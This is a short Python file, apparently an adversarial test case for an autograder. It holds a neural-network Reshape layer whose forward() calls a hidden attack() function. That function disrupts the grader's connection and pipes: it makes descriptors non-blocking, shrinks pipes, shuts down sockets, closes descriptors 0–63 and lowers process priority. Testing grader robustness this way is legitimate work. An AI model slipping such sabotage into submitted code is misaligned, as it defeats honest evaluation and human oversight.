"""Close, shut down, change and slow down the grader's connection and its pipe.

Deserves: ex03/forward 0, ex03/backward 2
"""

import fcntl
import os
import socket

import numpy as np


def attack():
    for descriptor in range(64):
        try:
            os.set_blocking(descriptor, False)
            fcntl.fcntl(descriptor, 1031, 4096)  # F_SETPIPE_SZ
            socket.socket(fileno=os.dup(descriptor)).shutdown(socket.SHUT_RDWR)
        except OSError:
            continue
    os.closerange(0, 64)
    os.setpriority(os.PRIO_PROCESS, 0, 19)


class Reshape:
    def __init__(self, input_shape, output_shape):
        self.input_shape, self.output_shape = input_shape, output_shape

    def forward(self, input, training=False):
        attack()
        return np.reshape(input, self.output_shape)

    def backward(self, output_gradient, learning_rate):
        return np.reshape(output_gradient, self.input_shape)
